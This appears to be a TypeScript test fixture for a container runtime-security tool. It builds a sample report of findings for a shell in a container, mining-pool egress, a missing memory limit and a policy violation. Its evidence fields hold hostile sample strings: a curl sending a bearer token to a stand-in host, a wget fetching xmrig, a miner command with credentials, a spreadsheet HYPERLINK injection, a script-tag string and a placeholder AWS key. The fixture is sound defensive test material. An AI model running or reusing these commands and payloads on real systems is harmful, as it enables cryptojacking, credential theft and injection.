// A small, realistic report input (shell + miner egress + posture + policy) for tests and export previews.
import type { Finding } from '../../common/model';
import type { ReportInput } from './types';
import { keyedFlow } from '../../common/state/keys';
import { GLASSHOUSE_VERSION } from '../version';

const T0 = Date.UTC(2025, 4, 1, 10, 0, 0);

const web = { id: 'a'.repeat(64), name: 'shop-web-1', image: 'nginx:1.25', imageDigest: 'sha256:' + '1'.repeat(64) };
const db = { id: 'b'.repeat(64), name: 'shop-db-1', image: 'postgres:16' };

function finding(p: Partial<Finding> & Pick<Finding, 'fingerprint' | 'ruleId' | 'title' | 'severity'>): Finding {
  return {
    source: 'runtime', mitre: [], why: '', fix: '', container: web, composeProject: 'shop', composeService: 'web',
    evidence: { events: [] }, count: 1, first: T0, last: T0, status: 'open', ...p,
  };
}

export function sampleReportInput(): ReportInput {
  const findings: Finding[] = [
    finding({
      fingerprint: '3fa9c0d1e2b4' + '0'.repeat(52), ruleId: 'shell-in-container', title: 'Shell spawned in container',
      severity: 'high', mitre: ['T1059.004'], why: 'A shell started inside a running container, which the image never does on its own.',
      fix: 'Find who ran the shell (docker exec or an exploited process) and remove shells from the image.',
      evidence: {
        events: [{ kind: 'exec', filename: '/bin/sh', argv: ['sh', '-c', 'curl -H "Authorization: Bearer abc.def" http://x'] }],
        ancestry: [
          { pid: 1, exe: '/usr/sbin/nginx', cmdline: 'nginx -g daemon off;' },
          { pid: 412, exe: '/bin/sh', cmdline: 'sh -c "echo <script>alert(1)</script> | tee /tmp/x"' },
        ],
        output: 'Shell spawned (user=root shell=sh parent=nginx cmdline=sh -c echo hi)',
      },
      count: 3, last: T0 + 5000,
    }),
    finding({
      fingerprint: '77aa00bb11cc' + '1'.repeat(52), ruleId: 'miner-pool-egress', title: 'Connection to a mining-pool port',
      severity: 'critical', mitre: ['T1496'], why: 'Outbound TCP to a port used by Stratum mining pools.',
      fix: 'Stop the container and rebuild the image from a trusted base.',
      evidence: {
        events: [{ kind: 'connect', daddr: '203.0.113.7', dport: 3333 }], endpoint: '203.0.113.7:3333',
        ancestry: [{ pid: 977, exe: '/tmp/xmrig', cmdline: '/tmp/xmrig -o stratum+tcp://wallet:hunter2@pool.example:3333 --password=s3cr3t' }],
      },
      first: T0 + 1000, last: T0 + 1000,
    }),
    finding({
      fingerprint: 'cc5500ee1100' + '2'.repeat(52), ruleId: 'CIS-5.11', title: 'Memory is not limited', source: 'posture',
      severity: 'medium', why: 'Without a memory limit one container can starve the host.', fix: 'Set mem_limit in compose or --memory.',
      container: db, composeService: 'db',
      evidence: { events: [], field: '.HostConfig.Memory', value: '0' },
    }),
    finding({
      fingerprint: 'dd6600ff2200' + '3'.repeat(52), ruleId: 'policy.write', title: '=HYPERLINK("http://evil","x") write outside allowed paths', source: 'policy',
      severity: 'low', why: 'glasshouse.yaml allows writes only below /var/cache/nginx.', fix: 'Allow the path in glasshouse.yaml or stop the write.',
      evidence: { events: [{ kind: 'open', path: '/etc/passwd', env: ['AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'HOME=/root'] }], path: '/etc/passwd' },
    }),
  ];
  return {
    findings,
    containers: [
      { ...web, composeProject: 'shop', composeService: 'web' },
      { ...db, composeProject: 'shop', composeService: 'db' },
    ],
    processes: [
      { key: '1@0', tgid: 1, ppid: 0, containerId: web.id, exe: '/usr/sbin/nginx', argv: ['nginx', '-g', 'daemon off;'], uid: 0, comm: 'nginx', start: T0, lineage: [] },
      { key: '412@1', tgid: 412, ppid: 1, parentKey: '1@0', containerId: web.id, exe: '/bin/sh', argv: ['sh', '-c', 'wget http://203.0.113.7/xmrig'], uid: 0, comm: 'sh', start: T0 + 100, lineage: [] },
      { key: '977@2', tgid: 977, ppid: 412, parentKey: '412@1', containerId: web.id, exe: '/tmp/xmrig', argv: ['/tmp/xmrig', '--password', 'hunter2'], uid: 0, comm: 'xmrig', start: T0 + 900, lineage: [] },
      { key: '1@3', tgid: 1, ppid: 0, containerId: db.id, exe: '/usr/lib/postgresql/16/bin/postgres', argv: ['postgres'], uid: 999, comm: 'postgres', start: T0, lineage: [] },
    ],
    flows: [
      keyedFlow({ containerId: web.id, direction: 'outbound', proto: 'tcp', remoteAddr: '203.0.113.7', remotePort: 3333, count: 4, failures: 0, first: T0 + 1000, last: T0 + 4000, exes: ['/tmp/xmrig'] }),
      keyedFlow({ containerId: web.id, direction: 'outbound', proto: 'tcp', remoteAddr: '172.18.0.3', remotePort: 5432, remoteContainer: 'shop-db-1', count: 10, failures: 1, first: T0, last: T0 + 4000, exes: ['/usr/sbin/nginx'] }),
      keyedFlow({ containerId: web.id, direction: 'outbound', proto: 'udp', remoteAddr: '127.0.0.11', remotePort: 53, dnsName: 'pool.example', count: 2, failures: 0, first: T0, last: T0 + 900, exes: ['/bin/sh'] }),
    ],
    recording: { id: 'rec-20250501', name: 'shop smoke test', startedAt: T0, endedAt: T0 + 60_000, host: 'ci-runner', command: ['docker', 'compose', 'up', '--abort-on-container-exit'], toolVersion: GLASSHOUSE_VERSION },
    loss: { ringDrops: 12, queueDrops: 0, corruptFrames: 0, unsupportedKinds: ['bpf'], gaps: [] },
    sourceLocations: { web: { uri: 'deploy/compose.yaml', startLine: 4 } },
  };
}
